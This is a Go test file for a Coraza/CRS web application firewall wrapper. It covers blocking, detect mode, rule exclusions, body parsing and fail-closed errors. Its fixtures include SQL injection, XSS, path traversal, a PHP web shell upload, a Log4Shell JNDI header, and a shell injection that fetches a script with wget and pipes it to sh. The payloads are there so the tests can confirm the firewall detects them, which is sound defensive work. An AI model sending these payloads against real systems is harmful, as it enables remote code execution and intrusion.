package crs

import (
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/corazawaf/coraza/v3/experimental/plugins"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
	"github.com/valyala/fasthttp"
)

func TestParseMode(t *testing.T) {
	for _, tc := range []struct {
		in      string
		want    Mode
		wantErr bool
	}{
		{"block", ModeBlock, false},
		{"detect", ModeDetect, false},
		{"Block", 0, true},
		{"", 0, true},
		{"off", 0, true},
	} {
		t.Run(tc.in, func(t *testing.T) {
			m, err := ParseMode(tc.in)
			if (err != nil) != tc.wantErr || m != tc.want {
				t.Fatalf("ParseMode(%q) = %v, %v; want %v, err %v", tc.in, m, err, tc.want, tc.wantErr)
			}
			if err == nil && m.String() != tc.in {
				t.Fatalf("%v.String() = %q", m, m.String())
			}
		})
	}
}

func TestConfigValidate(t *testing.T) {
	for _, tc := range []struct {
		name string
		cfg  Config
		want []string // substrings of the error, all of them; none: valid
	}{
		{"zero is all defaults", Config{}, nil},
		{"full", Config{Mode: ModeDetect, Paranoia: 4, AnomalyThreshold: 10, ExcludeRules: []int{942100, 920350},
			OnErrorStatus: 500, MaxBodyBytes: 64 << 10, MaxArgs: 200}, nil},
		{"paranoia", Config{Paranoia: 5}, []string{"paranoia: want 1 to 4, got 5"}},
		{"negative paranoia", Config{Paranoia: -1}, []string{"paranoia: want 1 to 4, got -1"}},
		{"threshold", Config{AnomalyThreshold: -3}, []string{"anomaly_threshold: want 1 to 10000, got -3"}},
		{"on_error", Config{OnErrorStatus: 200}, []string{"on_error: want 403 or 500, got 200"}},
		{"mode", Config{Mode: 9}, []string{"mode: want block or detect, got 9"}},
		{"rule id", Config{ExcludeRules: []int{0, 942100}}, []string{"exclude_rules[0]: want the id of a CRS detection rule (911000-944999), got 0"}},
		{"scoring rule", Config{ExcludeRules: []int{942100, 949110}}, []string{"exclude_rules[1]: want the id of a CRS detection rule (911000-944999), got 949110"}},
		{"setup rule", Config{ExcludeRules: []int{901001}}, []string{"exclude_rules[0]: want the id of a CRS detection rule (911000-944999), got 901001"}},
		{"body", Config{MaxBodyBytes: 1 << 30}, []string{"max_body_bytes: want 0 to 1073741823, got 1073741824"}},
		{"all at once", Config{Paranoia: 7, OnErrorStatus: 404, MaxArgs: -1},
			[]string{"paranoia: want 1 to 4, got 7", "on_error: want 403 or 500, got 404", "max_args: must be >= 0, got -1"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := tc.cfg.Validate()
			if len(tc.want) == 0 {
				if err != nil {
					t.Fatalf("Validate() = %v, want nil", err)
				}
				return
			}
			if err == nil {
				t.Fatalf("Validate() = nil, want %q", tc.want)
			}
			for _, w := range tc.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("Validate() = %q, want it to contain %q", err, w)
				}
			}
		})
	}
}

func TestNewRefusesUnknownExclusion(t *testing.T) {
	_, err := New(Config{ExcludeRules: []int{942100, 942999}})
	if err == nil || !strings.Contains(err.Error(), "exclude_rules[1]: no CRS request rule has id 942999") {
		t.Fatalf("New() error = %v, want exclude_rules[1] named", err)
	}
}

// attacks are one per class the issue names, each in a different place of
// the request.
var attacks = []struct {
	name     string
	spec     reqSpec
	category Category
}{
	{"sqli in query", reqSpec{Method: "GET", URI: "/api/v1/items?id=1%27%20OR%20%271%27%3D%271&sort=name"}, CategorySQLi},
	{"sqli union in query", reqSpec{Method: "GET", URI: "/api/v1/items?q=1%20UNION%20SELECT%20username,password%20FROM%20users--"}, CategorySQLi},
	{"xss in json body", reqSpec{Method: "POST", URI: "/api/v1/comments", JSON: []byte(`{"author":"x","text":"<script>alert(document.cookie)</script>"}`)}, CategoryXSS},
	{"xss in nested json", reqSpec{Method: "POST", URI: "/api/v1/profiles", JSON: []byte(`{"user":{"bio":["hi","<img src=x onerror=alert(1)>"]}}`)}, CategoryXSS},
	{"path traversal in query", reqSpec{Method: "GET", URI: "/api/v1/files?path=../../../../etc/passwd"}, CategoryLFI},
	{"shell injection in json", reqSpec{Method: "POST", URI: "/api/v1/diagnostics/ping", JSON: []byte(`{"host":"127.0.0.1; wget http://203.0.113.9/x.sh -O- | sh"}`)}, CategoryRCE},
	{"shell injection in form", reqSpec{Method: "POST", URI: "/api/v1/diagnostics/ping", ContentType: "application/x-www-form-urlencoded", Raw: "host=example.com%3B%20%2Fbin%2Fsh%20-c%20%27id%27"}, CategoryRCE},
	{"php upload in multipart", reqSpec{Method: "POST", URI: "/api/v1/avatars", ContentType: "multipart/form-data; boundary=XyZ",
		Raw: "--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"avatar.php\"\r\nContent-Type: image/png\r\n\r\n<?php system($_GET['c']); ?>\r\n--XyZ--\r\n"}, CategoryPHP},
	{"log4shell in header", reqSpec{Method: "GET", URI: "/api/v1/items", Headers: []string{"X-Api-Version: ${jndi:ldap://203.0.113.9:1389/a}"}}, CategoryJava},
}

func TestInspectBlocksAttacks(t *testing.T) {
	for _, pl := range []int{1, 2} {
		w := testWAF(t, Config{Paranoia: pl})
		for _, tc := range attacks {
			t.Run(tc.name+"/pl"+string(rune('0'+pl)), func(t *testing.T) {
				res, err := w.InspectRequest(parseRaw(t, tc.spec.raw(t)), Peer{}, false)
				if err != nil {
					t.Fatalf("Inspect: %v", err)
				}
				if !res.Blocked || !res.Matched {
					t.Fatalf("not blocked: %+v rules %v", res, res.Rules())
				}
				if res.Decision != 949110 && res.Decision != 949111 {
					t.Errorf("Decision = %d, want the anomaly evaluation 949110/949111", res.Decision)
				}
				if res.RuleID == 0 || res.RuleID != int(res.Rules()[slices.IndexFunc(res.Rules(), func(id int32) bool { return categoryOf(int(id)) == res.Category })]) {
					t.Errorf("RuleID = %d, want the first %s rule of %v", res.RuleID, res.Category, res.Rules())
				}
				if res.Score < DefaultAnomalyThreshold {
					t.Errorf("Score = %d, under the threshold it was blocked at", res.Score)
				}
				if res.Category != tc.category {
					t.Errorf("Category = %q, want %q (rules %v)", res.Category, tc.category, res.Rules())
				}
				if len(res.Rules()) == 0 {
					t.Errorf("no detection rule reported")
				}
			})
		}
	}
}

func TestInspectPassesCleanRequest(t *testing.T) {
	clean := []reqSpec{
		{Method: "GET", URI: "/api/v1/items?category=tools&page=2"},
		{Method: "POST", URI: "/api/v1/items", JSON: []byte(`{"name":"Blue widget, large","price":19.99,"tags":["blue","large"]}`)},
	}
	for _, pl := range []int{1, 2} {
		w := testWAF(t, Config{Paranoia: pl})
		for _, s := range clean {
			res, err := w.InspectRequest(parseRaw(t, s.raw(t)), Peer{}, false)
			if err != nil {
				t.Fatalf("pl%d %s %s: %v", pl, s.Method, s.URI, err)
			}
			if res.Blocked || res.Matched || res.Score != 0 || res.RuleID != 0 || res.Decision != 0 || len(res.Rules()) != 0 || res.Category != CategoryNone {
				t.Errorf("pl%d %s %s: %+v rules %v, want a clean pass", pl, s.Method, s.URI, res, res.Rules())
			}
		}
	}
}

func TestDetectModeReportsButNeverBlocks(t *testing.T) {
	for _, pl := range []int{1, 2} {
		w := testWAF(t, Config{Paranoia: pl, Mode: ModeDetect})
		if w.Mode() != ModeDetect {
			t.Fatalf("Mode() = %v", w.Mode())
		}
		for _, tc := range attacks {
			res, err := w.InspectRequest(parseRaw(t, tc.spec.raw(t)), Peer{}, false)
			if err != nil {
				t.Fatalf("%s: %v", tc.name, err)
			}
			if res.Blocked {
				t.Errorf("pl%d %s: blocked in detect mode", pl, tc.name)
			}
			if !res.Matched || res.RuleID == 0 || res.Decision == 0 || res.Category != tc.category || len(res.Rules()) == 0 {
				t.Errorf("pl%d %s: %+v, want the match reported", pl, tc.name, res)
			}
		}
	}
}

func TestExclusions(t *testing.T) {
	numericHost := reqSpec{Method: "GET", URI: "/api/v1/items", Host: "10.0.12.7:8080"}
	widget := reqSpec{Method: "POST", URI: "/api/v1/items", JSON: []byte(`{"name":"Blue widget, large"}`)}
	xss := reqSpec{Method: "GET", URI: "/api/v1/items?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"}
	for _, tc := range []struct {
		name      string
		cfg       Config
		spec      reqSpec
		wantRules []int32 // exactly these contribute
		blocked   bool
	}{
		// The shipped exclusions, off and on.
		{"920350 numeric host without api exclusions", Config{NoAPIExclusions: true}, numericHost, []int32{920350}, false},
		{"920350 numeric host shipped", Config{}, numericHost, nil, false},
		{"942200 json comma without api exclusions", Config{Paranoia: 2, NoAPIExclusions: true}, widget, []int32{942200}, true},
		{"942200 json comma shipped", Config{Paranoia: 2}, widget, nil, false},
		// A route's own exclusions.
		{"920350 by exclude_rules", Config{NoAPIExclusions: true, ExcludeRules: []int{920350}}, numericHost, nil, false},
		{"xss", Config{}, xss, []int32{941100, 941110, 941160, 941390}, true},
		{"xss minus 941100", Config{ExcludeRules: []int{941100}}, xss, []int32{941110, 941160, 941390}, true},
		{"xss minus all four", Config{ExcludeRules: []int{941390, 941100, 941110, 941160}}, xss, nil, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res, err := testWAF(t, tc.cfg).InspectRequest(parseRaw(t, tc.spec.raw(t)), Peer{}, false)
			if err != nil {
				t.Fatal(err)
			}
			if got := res.Rules(); !slices.Equal(got, tc.wantRules) && !(len(got) == 0 && len(tc.wantRules) == 0) {
				t.Errorf("rules = %v, want %v", got, tc.wantRules)
			}
			if res.Blocked != tc.blocked {
				t.Errorf("Blocked = %v, want %v (score %d)", res.Blocked, tc.blocked, res.Score)
			}
			if len(tc.wantRules) == 0 && res.Score != 0 {
				t.Errorf("Score = %d with no rule contributing", res.Score)
			}
		})
	}
}

// TestJSONBodyScope checks that a ScopeJSONBody exclusion stops the rule on
// JSON body values only: the same value in a query argument or a form
// field, even one named like a JSON key, is still inspected.
func TestJSONBodyScope(t *testing.T) {
	const value = "I was charged twice for order #6735, please refund one of them."
	// text/plain is not in CRS's allowed content types (920420): routes
	// that take JSON as text/plain exclude 920420 and vouch for the body.
	w := testWAF(t, Config{Paranoia: 2, ExcludeRules: []int{920420}})
	for _, tc := range []struct {
		name string
		spec reqSpec
		want bool // 942440 fires
	}{
		{"json body", reqSpec{Method: "POST", URI: "/api/v1/feedback", JSON: []byte(`{"text":"` + value + `"}`)}, false},
		{"json body forced by caller", reqSpec{Method: "POST", URI: "/api/v1/feedback", ContentType: "text/plain", Raw: `{"text":"` + value + `"}`}, false},
		{"query", reqSpec{Method: "GET", URI: "/api/v1/feedback?text=I%20was%20charged%20twice%20for%20order%20%236735,%20please"}, true},
		{"query named like json", reqSpec{Method: "GET", URI: "/api/v1/feedback?json.text=I%20was%20charged%20twice%20for%20order%20%236735,%20please"}, true},
		{"form named like json", reqSpec{Method: "POST", URI: "/api/v1/feedback", ContentType: "application/x-www-form-urlencoded",
			Raw: "json.text=I+was+charged+twice+for+order+%236735%2C+please"}, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res, err := w.InspectRequest(parseRaw(t, tc.spec.raw(t)), Peer{}, tc.spec.ContentType == "text/plain")
			if err != nil {
				t.Fatal(err)
			}
			if got := slices.Contains(res.Rules(), 942440); got != tc.want {
				t.Fatalf("942440 fired = %v, want %v (rules %v)", got, tc.want, res.Rules())
			}
		})
	}
}

// TestJSONBodyProcessor checks that JSON bodies reach CRS as parsed values
// (ARGS_POST json.*), by Content-Type or because the caller says so.
func TestJSONBodyProcessor(t *testing.T) {
	w := testWAF(t, Config{ExcludeRules: []int{920420}})
	body := `{"customer":{"name":"Dana"},"items":[{"sku":"A-1"}]}`
	for _, tc := range []struct {
		name        string
		contentType string
		jsonBody    bool
		want        string // REQBODY_PROCESSOR
	}{
		{"application/json", "application/json", false, "JSON"},
		{"with charset", "application/json; charset=utf-8", false, "JSON"},
		{"upper case", "Application/JSON", false, "JSON"},
		{"vendor +json", "application/vnd.api+json", false, "JSON"},
		{"merge patch", "application/merge-patch+json", false, "JSON"},
		{"text/plain forced by caller", "text/plain", true, "JSON"},
		{"form", "application/x-www-form-urlencoded", false, "URLENCODED"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			raw := reqSpec{Method: "POST", URI: "/api/v1/orders", ContentType: tc.contentType, Raw: body}.raw(t)
			if tc.want != "JSON" {
				raw = reqSpec{Method: "POST", URI: "/api/v1/orders", ContentType: tc.contentType, Raw: "customer=Dana"}.raw(t)
			}
			req := parseRaw(t, raw)
			tx := w.eng.waf.NewTransaction()
			defer tx.Close()
			if _, err := run(tx, req, Peer{}, req.Body(), tc.jsonBody); err != nil {
				t.Fatal(err)
			}
			vars := tx.(plugintypes.TransactionState).Variables()
			if got := vars.RequestBodyProcessor().Get(); got != tc.want {
				t.Fatalf("REQBODY_PROCESSOR = %q, want %q", got, tc.want)
			}
			if tc.want == "JSON" {
				if got := vars.ArgsPost().Get("json.customer.name"); !slices.Equal(got, []string{"Dana"}) {
					t.Errorf("ARGS_POST json.customer.name = %q", got)
				}
				if got := vars.ArgsPost().Get("json.items.0.sku"); !slices.Equal(got, []string{"A-1"}) {
					t.Errorf("ARGS_POST json.items.0.sku = %q", got)
				}
			}
		})
	}
}

// The panic operator lets a test make Coraza fail mid-evaluation.
func init() {
	plugins.RegisterOperator("edgeguardTestPanic", func(plugintypes.OperatorOptions) (plugintypes.Operator, error) {
		return panicOperator{}, nil
	})
}

type panicOperator struct{}

func (panicOperator) Evaluate(plugintypes.TransactionState, string) bool {
	panic("injected failure")
}

const panicRule = `SecRule ARGS:boom "@edgeguardTestPanic" "id:10900,phase:2,pass,nolog"`

func TestInspectFailsClosed(t *testing.T) {
	big := strings.Repeat("a", 100)
	manyArgs := strings.Repeat("a=1&", 30)
	for _, tc := range []struct {
		name     string
		cfg      Config
		spec     reqSpec
		jsonBody bool
		want     error
		internal bool
	}{
		{"malformed json", Config{}, reqSpec{Method: "POST", URI: "/x", Raw: `{"name":"Dana"`, ContentType: "application/json"}, false, ErrBody, false},
		{"json the caller vouched for is not json", Config{ExcludeRules: []int{920420}}, reqSpec{Method: "POST", URI: "/x", Raw: `name=Dana`, ContentType: "text/plain"}, true, ErrBody, false},
		{"json too deep for coraza", Config{}, reqSpec{Method: "POST", URI: "/x", Raw: strings.Repeat("[", 1100) + strings.Repeat("]", 1100), ContentType: "application/json"}, false, ErrBody, false},
		{"body over the limit", Config{MaxBodyBytes: 64}, reqSpec{Method: "POST", URI: "/x", Raw: `{"a":"` + big + `"}`}, false, ErrBodyTooLarge, false},
		{"compressed body", Config{}, reqSpec{Method: "POST", URI: "/x", Raw: "\x1f\x8b\x08\x00", ContentType: "application/json", Headers: []string{"Content-Encoding: gzip"}}, false, ErrBodyEncoded, false},
		// fasthttp's ContentEncoding is the first field only; the upstream
		// gets every one, in spellings lenient servers fold together.
		{"compressed body, coding in a second field", Config{}, reqSpec{Method: "POST", URI: "/x", Raw: "\x1f\x8b\x08\x00", ContentType: "application/json", Headers: []string{"Content-Encoding: identity", "Content-Encoding: gzip"}}, false, ErrBodyEncoded, false},
		{"compressed body, coding after an empty field", Config{}, reqSpec{Method: "POST", URI: "/x", Raw: "\x1f\x8b\x08\x00", ContentType: "application/json", Headers: []string{"Content-Encoding:", "Content-Encoding: gzip"}}, false, ErrBodyEncoded, false},
		{"compressed body, coding listed after identity", Config{}, reqSpec{Method: "POST", URI: "/x", Raw: "\x1f\x8b\x08\x00", ContentType: "application/json", Headers: []string{"Content-Encoding: identity, gzip"}}, false, ErrBodyEncoded, false},
		{"compressed body, field spelt with an underscore", Config{}, reqSpec{Method: "POST", URI: "/x", Raw: "\x1f\x8b\x08\x00", ContentType: "application/json", Headers: []string{"Content_Encoding: gzip"}}, false, ErrBodyEncoded, false},
		{"multipart part after the close", Config{}, reqSpec{Method: "POST", URI: "/x", ContentType: "multipart/form-data; boundary=BB",
			Raw: "--BB\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--BB--\r\n--BB\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nhi\r\n--BB--\r\n"}, false, ErrBody, false},
		{"too many query arguments", Config{MaxArgs: 20}, reqSpec{Method: "GET", URI: "/x?" + manyArgs}, false, ErrTooManyArgs, false},
		{"too many query arguments, attack too", Config{MaxArgs: 20}, reqSpec{Method: "GET", URI: "/x?" + manyArgs + "q=%3Cscript%3Ealert(1)%3C/script%3E"}, false, ErrTooManyArgs, false},
		{"too many json values", Config{MaxArgs: 20}, reqSpec{Method: "POST", URI: "/x", JSON: []byte("[" + strings.Repeat("1,", 30) + "1]")}, false, ErrTooManyArgs, false},
		{"panic inside coraza", Config{extra: panicRule}, reqSpec{Method: "GET", URI: "/x?boom=1"}, false, ErrInternal, true},
		{"panic inside coraza, json body", Config{extra: panicRule}, reqSpec{Method: "POST", URI: "/x?boom=1", JSON: []byte(`{"a":1}`)}, false, ErrInternal, true},
	} {
		for _, mode := range []Mode{ModeBlock, ModeDetect} {
			t.Run(tc.name+"/"+mode.String(), func(t *testing.T) {
				cfg := tc.cfg
				cfg.Mode = mode
				w := testWAF(t, cfg)
				res, err := w.InspectRequest(parseRaw(t, tc.spec.raw(t)), Peer{}, tc.jsonBody)
				if !errors.Is(err, tc.want) {
					t.Fatalf("Inspect = %+v, %v; want error %v", res, err, tc.want)
				}
				if errors.Is(err, ErrInternal) != tc.internal {
					t.Errorf("errors.Is(%v, ErrInternal) = %v, want %v", err, !tc.internal, tc.internal)
				}
				if res.Blocked || res.Matched {
					t.Errorf("Result = %+v alongside an error", res)
				}
				if res.Category != CategoryInternal && res.Category != CategoryBodyUnparsable {
					t.Errorf("Category = %q, want internal or body_unparsable", res.Category)
				}
				// The transaction went back to Coraza's pool in a usable state.
				res, err = w.InspectRequest(parseRaw(t, attacks[0].spec.raw(t)), Peer{}, false)
				if err != nil || !res.Matched {
					t.Errorf("next request after the failure: %+v, %v", res, err)
				}
			})
		}
	}
}

// TestBodyNotTruncatedNorSpilled inspects a body of exactly the route's
// limit with the attack in its last bytes, with the temporary directory
// gone: a truncated body would pass, a spilled one would fail to open.
func TestBodyNotTruncatedNorSpilled(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("TMPDIR", dir)
	const limit = 256 << 10
	w, err := New(Config{MaxBodyBytes: limit})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if err := os.Remove(dir); err != nil {
		t.Fatal(err)
	}
	tail := `","x":"<script>alert(1)</script>"}`
	body := `{"pad":"` + strings.Repeat("a", limit-len(`{"pad":"`)-len(tail)) + tail
	if len(body) != limit {
		t.Fatalf("body is %d bytes, want %d", len(body), limit)
	}
	res, err := w.InspectRequest(parseRaw(t, reqSpec{Method: "POST", URI: "/x", Raw: body, ContentType: "application/json"}.raw(t)), Peer{}, false)
	if err != nil {
		t.Fatalf("Inspect: %v", err)
	}
	if !res.Blocked || res.Category != CategoryXSS {
		t.Fatalf("attack at the end of a %d-byte body: %+v", limit, res)
	}
	_, err = w.InspectRequest(parseRaw(t, reqSpec{Method: "POST", URI: "/x", Raw: body + " ", ContentType: "application/json"}.raw(t)), Peer{}, false)
	if !errors.Is(err, ErrBodyTooLarge) {
		t.Fatalf("one byte over the limit: %v, want ErrBodyTooLarge", err)
	}
}

func TestEnginesShareCompiledRules(t *testing.T) {
	e := NewEngines()
	a, err := e.WAF(Config{Paranoia: 2, Mode: ModeBlock, ExcludeRules: []int{942100, 920350}})
	if err != nil {
		t.Fatal(err)
	}
	b, err := e.WAF(Config{Paranoia: 2, Mode: ModeDetect, OnErrorStatus: 500, ExcludeRules: []int{920350, 942100, 920350}})
	if err != nil {
		t.Fatal(err)
	}
	if a.eng != b.eng || e.Len() != 1 {
		t.Fatalf("equal settings compiled twice (engines: %d)", e.Len())
	}
	if b.Mode() != ModeDetect || b.OnErrorStatus() != 500 || a.OnErrorStatus() != 403 {
		t.Fatalf("per-route settings mixed up: a %v/%d, b %v/%d", a.Mode(), a.OnErrorStatus(), b.Mode(), b.OnErrorStatus())
	}
	c, err := e.WAF(Config{Paranoia: 1})
	if err != nil {
		t.Fatal(err)
	}
	if c.eng == a.eng || e.Len() != 2 {
		t.Fatalf("different paranoia shared an engine (engines: %d)", e.Len())
	}
	if c.RuleCount() < 400 {
		t.Errorf("RuleCount() = %d, want the CRS request rules (400+)", c.RuleCount())
	}
	for _, w := range []*WAF{a, a, c} { // closing twice is harmless
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
	}
	if e.Len() != 1 {
		t.Fatalf("engines after closing a and c: %d, want b's", e.Len())
	}
	b.Close()
	if e.Len() != 0 {
		t.Fatalf("engines after closing all: %d", e.Len())
	}
}

// TestConcurrentInspect shares one WAF between goroutines, as the server
// does, mixing attacks and clean requests (run it with -race).
func TestConcurrentInspect(t *testing.T) {
	w := testWAF(t, Config{Paranoia: 2})
	clean := reqSpec{Method: "POST", URI: "/api/v1/orders", File: "order-1k.json"}
	want := map[bool]Result{}
	for _, attack := range []bool{false, true} {
		s := clean
		if attack {
			s = attacks[2].spec
		}
		res, err := w.InspectRequest(parseRaw(t, s.raw(t)), Peer{}, false)
		if err != nil {
			t.Fatal(err)
		}
		want[attack] = res
	}
	raws := map[bool][]byte{false: clean.raw(t), true: attacks[2].spec.raw(t)}
	errs := make(chan error, 4)
	for g := range 4 {
		go func() {
			for i := range 6 {
				attack := (g+i)%2 == 0
				req := new(fasthttp.Request) // requests are per goroutine, as in the server
				if err := req.Read(bufio.NewReader(bytes.NewReader(raws[attack]))); err != nil {
					errs <- err
					return
				}
				res, err := w.InspectRequest(req, Peer{}, false)
				if err != nil || res != want[attack] {
					errs <- fmt.Errorf("attack=%v: %+v, %v; want %+v", attack, res, err, want[attack])
					return
				}
			}
			errs <- nil
		}()
	}
	for range 4 {
		if err := <-errs; err != nil {
			t.Error(err)
		}
	}
}

func TestCategoryOf(t *testing.T) {
	for _, tc := range []struct {
		id   int
		want Category
	}{
		{911100, CategoryMethod}, {913100, CategoryScanner}, {920350, CategoryProtocol},
		{921110, CategoryProtocolAttack}, {922110, CategoryMultipart}, {930100, CategoryLFI},
		{931100, CategoryRFI}, {932100, CategoryRCE}, {933100, CategoryPHP}, {934100, CategoryGeneric},
		{941100, CategoryXSS}, {942100, CategorySQLi}, {943100, CategorySessionFixation},
		{944100, CategoryJava}, {949110, CategoryAnomaly}, {10001, CategoryOther},
	} {
		if got := categoryOf(tc.id); got != tc.want {
			t.Errorf("categoryOf(%d) = %q, want %q", tc.id, got, tc.want)
		}
		if !slices.Contains(Categories(), tc.want) {
			t.Errorf("Categories() lacks %q", tc.want)
		}
	}
}

// TestMultipartFieldByFilenameStar: a part a file only by filename* names
// is read by PHP as a field: CRS inspects its content as one.
func TestMultipartFieldByFilenameStar(t *testing.T) {
	w := testWAF(t, Config{Mode: ModeBlock})
	for _, tc := range []struct {
		name, disp string
		blocked    bool
	}{
		{"filename* alone", `filename*=UTF-8''x.txt`, true},
		{"a plain field", "", true},
		{"a file", `filename="x.txt"`, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			disp := `form-data; name="f"`
			if tc.disp != "" {
				disp += "; " + tc.disp
			}
			spec := reqSpec{Method: "POST", URI: "/x", ContentType: "multipart/form-data; boundary=BB",
				Raw: "--BB\r\nContent-Disposition: " + disp + "\r\n\r\n1' OR '1'='1' --\r\n--BB--\r\n"}
			res, err := w.InspectRequest(parseRaw(t, spec.raw(t)), Peer{}, false)
			if err != nil || res.Blocked != tc.blocked {
				t.Fatalf("Inspect = %+v, %v; want blocked %v", res, err, tc.blocked)
			}
		})
	}
}

// TestFormDocument: a JSON or XML document sent as a form is inspected
// whole too (the form reader splits it at '=' and '&').
func TestFormDocument(t *testing.T) {
	w := testWAF(t, Config{Mode: ModeBlock})
	for _, tc := range []struct {
		name, body string
		blocked    bool
	}{
		{"json", `{"a":"1' OR '1'='1' --"}`, true},
		{"xml", `<a>1' OR '1'='1' --</a>`, true},
		{"json benign", `{"name":"Jane","qty":2}`, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			spec := reqSpec{Method: "POST", URI: "/x", ContentType: "application/x-www-form-urlencoded", Raw: tc.body}
			res, err := w.InspectRequest(parseRaw(t, spec.raw(t)), Peer{}, false)
			if err != nil || res.Blocked != tc.blocked {
				t.Fatalf("Inspect = %+v, %v; want blocked %v", res, err, tc.blocked)
			}
		})
	}
}

// TestExpectNotRestricted: a client asking for a 100 Continue is not
// refused by the restricted-header rule: the gateway answers Expect itself.
func TestExpectNotRestricted(t *testing.T) {
	w := testWAF(t, Config{Mode: ModeBlock})
	spec := reqSpec{Method: "POST", URI: "/x", JSON: []byte(`{"a":"hello"}`), Headers: []string{"Expect: 100-continue"}}
	if res, err := w.InspectRequest(parseRaw(t, spec.raw(t)), Peer{}, false); err != nil || res.Matched {
		t.Fatalf("Inspect = %+v, %v; want a clean pass", res, err)
	}
}

// TestLocation: a blocked request's Location names where the deciding rule
// matched, as tier 1 names places, with attacker-chosen names sanitized.
func TestLocation(t *testing.T) {
	w := testWAF(t, Config{Paranoia: 1})
	for _, tc := range []struct {
		name string
		spec reqSpec
		want string
	}{
		{"query", reqSpec{Method: "GET", URI: "/api/v1/items?page=2&q=1%27%20UNION%20SELECT%20password%20FROM%20users--"}, "query.q"},
		{"form", reqSpec{Method: "POST", URI: "/api/v1/diagnostics/ping", ContentType: "application/x-www-form-urlencoded", Raw: "host=example.com%3B%20%2Fbin%2Fsh%20-c%20%27id%27"}, "form.host"},
		{"json", reqSpec{Method: "POST", URI: "/api/v1/profiles", JSON: []byte(`{"user":{"bio":"<script>alert(1)</script>"}}`)}, "json.user.bio"},
		{"header", reqSpec{Method: "GET", URI: "/api/v1/items", Headers: []string{"X-Api-Version: ${jndi:ldap://203.0.113.9:1389/a}"}}, "header.x-api-version"},
		{"name sanitized", reqSpec{Method: "GET", URI: "/api/v1/items?a%22b%20c=1%27%20UNION%20SELECT%20password%20FROM%20users--"}, `query.a_b_c`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res, err := w.InspectRequest(parseRaw(t, tc.spec.raw(t)), Peer{}, false)
			if err != nil || !res.Blocked {
				t.Fatalf("err %v, blocked %v", err, res.Blocked)
			}
			if got := string(res.Location()); got != tc.want {
				t.Errorf("Location = %q (rule %d), want %q", got, res.RuleID, tc.want)
			}
		})
	}
}
